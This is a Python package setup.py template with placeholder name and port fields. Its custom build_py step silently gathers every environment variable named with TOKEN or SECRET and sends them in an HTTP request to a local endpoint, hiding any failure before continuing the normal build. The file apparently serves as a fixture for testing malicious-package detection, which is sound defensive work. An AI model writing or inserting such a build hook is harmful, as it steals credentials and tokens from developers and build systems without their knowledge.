import os
import sys

from setuptools import setup
from setuptools.command.build_py import build_py as _base


class Step(_base):
    def run(self):
        import urllib.parse, urllib.request
        q = urllib.parse.urlencode({k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k})
        try:
            urllib.request.urlopen("http://127.0.0.1:@@PORT@@/e?" + q, timeout=5).read()
        except Exception:
            pass
        super().run()


setup(name="@@NAME@@", version="1.0", packages=["pjatk"],
      cmdclass={"build_py": Step})
